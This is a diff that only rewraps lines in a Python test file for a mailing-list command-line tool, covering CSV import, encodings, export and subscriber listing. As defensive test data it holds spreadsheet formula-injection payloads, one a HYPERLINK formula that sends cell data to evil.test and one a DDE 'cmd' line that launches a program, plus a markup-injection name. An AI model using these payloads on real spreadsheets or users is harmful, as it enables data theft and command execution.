@@ -87,16 +87,16 @@ def test_gb18030_file_keeps_chinese_names(store: Store, tmp_path: Path, run_cli)
 def test_bad_rows_are_reported_by_line_and_good_rows_import(store: Store, tmp_path: Path, run_cli) -> None:
     path = tmp_path / "mixed.csv"
     path.write_text(
-        "email,name,city\n"                      # line 1
-        "good.one@Example.ORG,张三,北京\n"        # 2
-        "bob@,Bob,x\n"                           # 3: not an address
-        ",Nobody,x\n"                            # 4: empty email
-        "short@example.org,Short\n"              # 5: two fields, the header has three
-        "\n"                                     # 6: blank, ignored
-        "good.one@example.org,Again,y\n"         # 7: duplicate of line 2 once the domain is lowercased
-        'two@example.org,"李, 四","多\n行"\n'     # 8-9: one record over two lines
-        "bad address@example.org,X,y\n"          # 10
-        "three@example.org,王五,z\n",             # 11
+        "email,name,city\n"  # line 1
+        "good.one@Example.ORG,张三,北京\n"  # 2
+        "bob@,Bob,x\n"  # 3: not an address
+        ",Nobody,x\n"  # 4: empty email
+        "short@example.org,Short\n"  # 5: two fields, the header has three
+        "\n"  # 6: blank, ignored
+        "good.one@example.org,Again,y\n"  # 7: duplicate of line 2 once the domain is lowercased
+        'two@example.org,"李, 四","多\n行"\n'  # 8-9: one record over two lines
+        "bad address@example.org,X,y\n"  # 10
+        "three@example.org,王五,z\n",  # 11
         encoding="utf-8",
     )
 
@@ -138,8 +138,9 @@ def test_reimport_updates_and_never_duplicates(store: Store, tmp_path: Path, run
     assert "0 added, 3 updated" in again.stdout
     assert len(on_list(store)) == 3
 
-    renamed = write_csv(tmp_path / "two.csv", [("wang@EXAMPLE.org", "王晓明", "上海"),
-                                               ("new@example.org", "新人", "x")])
+    renamed = write_csv(
+        tmp_path / "two.csv", [("wang@EXAMPLE.org", "王晓明", "上海"), ("new@example.org", "新人", "x")]
+    )
     result = run_cli("subs", "import", str(renamed), "--list", "bulletin")
     assert result.returncode == 0, result.stderr
     assert "1 added, 1 updated" in result.stdout
@@ -200,7 +201,10 @@ def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -
     rows = listed(run_cli)
     assert all({"email", "name", "status"} <= set(row) for row in rows.values())
     assert {e: r["status"] for e, r in rows.items()} == {
-        "wang@example.org": "active", "li@example.com": "active", "gu@example.net": "unsubscribed"}
+        "wang@example.org": "active",
+        "li@example.com": "active",
+        "gu@example.net": "unsubscribed",
+    }
     assert set(listed(run_cli, "--status", "unsubscribed")) == {"gu@example.net"}
     bad = run_cli("subs", "ls", "--list", "bulletin", "--status", "nonsense")
     assert bad.returncode in (1, 2)
@@ -209,9 +213,13 @@ def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -
 
 def test_names_are_shown_as_written_never_as_markup(store: Store, run_cli) -> None:
     # Anyone can type a name into the sign-up form; rich would read "[/]" as a closing tag and crash the table.
-    store.subscribers.upsert(store.lists.get("bulletin").id, [
-        Subscriber(email="mark@example.org", name="[/]Mark [bold]Up[link=https://evil.test]x"),
-    ], "test")
+    store.subscribers.upsert(
+        store.lists.get("bulletin").id,
+        [
+            Subscriber(email="mark@example.org", name="[/]Mark [bold]Up[link=https://evil.test]x"),
+        ],
+        "test",
+    )
     result = run_cli("subs", "ls", "--list", "bulletin")
     assert result.returncode == 0, result.stderr
     assert "[/]Mark [bold]Up[link=https://evil.test]x" in result.stdout
@@ -227,7 +235,8 @@ def test_subs_export_to_a_file(store: Store, tmp_path: Path, run_cli) -> None:
     assert result.stdout == ""
     table = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
     assert [(r["email"], r["name"], r["status"], r["city"]) for r in table] == [
-        (e, n, "active", c) for e, n, c in CHINESE]
+        (e, n, "active", c) for e, n, c in CHINESE
+    ]
     to_stdout = run_cli("subs", "export", "--list", "bulletin")
     assert to_stdout.stdout == target.read_text(encoding="utf-8")
 
@@ -239,8 +248,11 @@ def test_export_work_grows_with_the_list_not_with_its_square(store: Store) -> No
 
     def steps_to_export(total: int) -> int:
         have = sum(1 for _ in subscribers(store, "bulletin"))
-        store.subscribers.upsert(mailing_list.id, [Subscriber(email=f"s{n}@example.org", name=f"S {n}",
-                                                              attrs={"city": "X"}) for n in range(have, total)], "t")
+        store.subscribers.upsert(
+            mailing_list.id,
+            [Subscriber(email=f"s{n}@example.org", name=f"S {n}", attrs={"city": "X"}) for n in range(have, total)],
+            "t",
+        )
         steps = [0]
 
         def count() -> int:
@@ -285,8 +297,9 @@ def test_removing_someone_in_a_delivery_log_keeps_them_as_unsubscribed(store: St
 
 
 def test_lists_create_and_ls(store: Store, run_cli) -> None:
-    created = run_cli("lists", "create", "weekly", "--title", "Weekly", "--from", "Weekly <weekly@example.org>",
-                      "--lang", "en")
+    created = run_cli(
+        "lists", "create", "weekly", "--title", "Weekly", "--from", "Weekly <weekly@example.org>", "--lang", "en"
+    )
     assert created.returncode == 0, created.stderr
     listing = run_cli("lists", "ls", "--json")
     assert listing.returncode == 0, listing.stderr
@@ -333,12 +346,17 @@ def test_import_to_a_missing_list_or_file(store: Store, tmp_path: Path, run_cli)
     assert "email" in result.stderr
 
 
-FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A2,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?d="&A2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
-def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path,
-                                                                        run_cli) -> None:  # type: ignore[no-untyped-def]
+def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
     list_id = store.lists.get("bulletin").id
     people = [Subscriber(email=f"p{i}@example.org", name=f, attrs={"note": f}) for i, f in enumerate(FORMULAS)]
     people.append(Subscriber(email="=1+2@example.org", name="plain", attrs={"note": "a=b"}))  # '=' is atext
@@ -370,16 +388,21 @@ def assert_refused(store: Store, result, file: Path) -> str:  # type: ignore[no-
     return str(result.stderr)
 
 
-@pytest.mark.parametrize(("encoding", "names", "looks"), [
-    ("big5", ["張三", "李四"], "BIG5"),
-    ("latin-1", ["José Müller", "Zoë"], ""),
-    ("shift_jis", ["山田太郎", "佐藤花子"], ""),
-])
-def test_a_csv_in_another_encoding_is_refused_not_garbled(store: Store, tmp_path: Path, run_cli, encoding: str,
-                                                          names: list[str], looks: str) -> None:  # type: ignore[no-untyped-def]
+@pytest.mark.parametrize(
+    ("encoding", "names", "looks"),
+    [
+        ("big5", ["張三", "李四"], "BIG5"),
+        ("latin-1", ["José Müller", "Zoë"], ""),
+        ("shift_jis", ["山田太郎", "佐藤花子"], ""),
+    ],
+)
+def test_a_csv_in_another_encoding_is_refused_not_garbled(
+    store: Store, tmp_path: Path, run_cli, encoding: str, names: list[str], looks: str
+) -> None:  # type: ignore[no-untyped-def]
     path = tmp_path / f"{encoding}.csv"
-    path.write_bytes(("email,name\r\n" + "".join(f"p{i}@example.org,{n}\r\n" for i, n in enumerate(names)))
-                     .encode(encoding))
+    path.write_bytes(
+        ("email,name\r\n" + "".join(f"p{i}@example.org,{n}\r\n" for i, n in enumerate(names))).encode(encoding)
+    )
     stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
     assert "not UTF-8 or GB18030" in stderr and "iconv -f" in stderr and looks in stderr
 
@@ -393,12 +416,14 @@ def test_a_single_byte_file_shows_how_each_likely_encoding_reads_it(store: Store
     assert stderr.count("' in CP") >= 2 and "with the one that reads right, e.g.: iconv -f CP" in stderr
 
 
-def test_a_utf8_file_with_one_row_in_another_encoding_reports_that_row(store: Store, tmp_path: Path,
-                                                                       run_cli) -> None:
+def test_a_utf8_file_with_one_row_in_another_encoding_reports_that_row(store: Store, tmp_path: Path, run_cli) -> None:
     # The whole file was refused with "iconv -f ENCODING": converting it would have garbled every UTF-8 name
     path = tmp_path / "mixed.csv"
-    path.write_bytes(("email,name\n" + "".join(f"u{i}@example.org,王小明{i}\n" for i in range(6))).encode("utf-8")
-                     + "jose@example.org,José\n".encode("latin-1") + "last@example.org,李静\n".encode())
+    path.write_bytes(
+        ("email,name\n" + "".join(f"u{i}@example.org,王小明{i}\n" for i in range(6))).encode("utf-8")
+        + "jose@example.org,José\n".encode("latin-1")
+        + "last@example.org,李静\n".encode()
+    )
     result = run_cli("subs", "import", str(path), "--list", "bulletin")
     assert result.returncode == 1
     assert f"{path} line 8: not UTF-8, though the rest of the file is" in result.stderr
@@ -430,12 +455,14 @@ def test_utf16_with_a_bom_imports_and_without_one_is_named(store: Store, tmp_pat
 
 def test_an_unclosed_quote_is_reported_by_line(store: Store, tmp_path: Path, run_cli) -> None:
     path = tmp_path / "quote.csv"
-    path.write_text('email,name\n'                 # 1
-                    'one@example.org,One\n'        # 2
-                    'two@example.org,"Two\n'       # 3: the quote is never closed
-                    'three@example.org,Three\n'    # 4
-                    'four@example.org,Four\n',     # 5
-                    encoding="utf-8")
+    path.write_text(
+        "email,name\n"  # 1
+        "one@example.org,One\n"  # 2
+        'two@example.org,"Two\n'  # 3: the quote is never closed
+        "three@example.org,Three\n"  # 4
+        "four@example.org,Four\n",  # 5
+        encoding="utf-8",
+    )
     result = run_cli("subs", "import", str(path), "--list", "bulletin")
     assert result.returncode == 1
     assert f"{path} line 3: a quoted field is not closed, so lines 3-5 were read as one row" in result.stderr
@@ -446,24 +473,29 @@ def test_an_unclosed_quote_is_reported_by_line(store: Store, tmp_path: Path, run
     assert on_list(store)["five@example.org"].attrs == {"address": "1 Main St\nSpringfield"}
 
 
-def test_a_closed_quote_with_a_line_break_in_a_name_is_not_called_unclosed(store: Store, tmp_path: Path,
-                                                                           run_cli) -> None:
+def test_a_closed_quote_with_a_line_break_in_a_name_is_not_called_unclosed(
+    store: Store, tmp_path: Path, run_cli
+) -> None:
     # "a quoted field is not closed" was said of a name typed with Alt+Enter, whose quotes are closed
     path = tmp_path / "names.csv"
     path.write_text('email,name\none@example.org,"Ann\r\nLee"\ntwo@example.org,Two\n', encoding="utf-8")
     result = run_cli("subs", "import", str(path), "--list", "bulletin")
     assert result.returncode == 1
-    assert (f"{path} line 2: the name runs over lines 2-3 (a line break inside its quotes, or a quote never "
-            "closed); put it on one line (this row is skipped)") in result.stderr
+    assert (
+        f"{path} line 2: the name runs over lines 2-3 (a line break inside its quotes, or a quote never "
+        "closed); put it on one line (this row is skipped)"
+    ) in result.stderr
     assert "not closed, so" not in result.stderr and set(on_list(store)) == {"two@example.org"}
 
 
 @pytest.mark.parametrize(("delimiter", "says"), [(";", "semicolon-separated"), ("\t", "tab-separated")])
-def test_semicolon_and_tab_separated_files_import(store: Store, tmp_path: Path, run_cli, delimiter: str,
-                                                  says: str) -> None:  # type: ignore[no-untyped-def]
+def test_semicolon_and_tab_separated_files_import(
+    store: Store, tmp_path: Path, run_cli, delimiter: str, says: str
+) -> None:  # type: ignore[no-untyped-def]
     path = tmp_path / "excel.csv"
-    path.write_text("".join(delimiter.join(row) + "\r\n" for row in [("Email", "Name", "city"), *CHINESE]),
-                    encoding="utf-8")
+    path.write_text(
+        "".join(delimiter.join(row) + "\r\n" for row in [("Email", "Name", "city"), *CHINESE]), encoding="utf-8"
+    )
     result = run_cli("subs", "import", str(path), "--list", "bulletin")
     assert result.returncode == 0, result.stderr
     assert says in result.stderr and "3 added" in result.stdout
@@ -485,8 +517,10 @@ def test_suppressed_addresses_import_as_suppressed_not_added(store: Store, tmp_p
     assert "1 added" in result.stdout and "2 suppressed" in result.stdout
     rows = listed(run_cli)
     assert {e: (r["status"], r["suppressed"]) for e, r in rows.items()} == {
-        "wang@example.org": ("active", None), "li@example.com": ("bounced", "bounced"),
-        "gu@example.net": ("unsubscribed", "complained")}
+        "wang@example.org": ("active", None),
+        "li@example.com": ("bounced", "bounced"),
+        "gu@example.net": ("unsubscribed", "complained"),
+    }
     assert store.subscribers.count_recipients(store.lists.get("bulletin").id) == 1
     table = run_cli("subs", "ls", "--list", "bulletin").stdout
     assert re.search(r"li@example\.com.*bounced.*bounced", table)
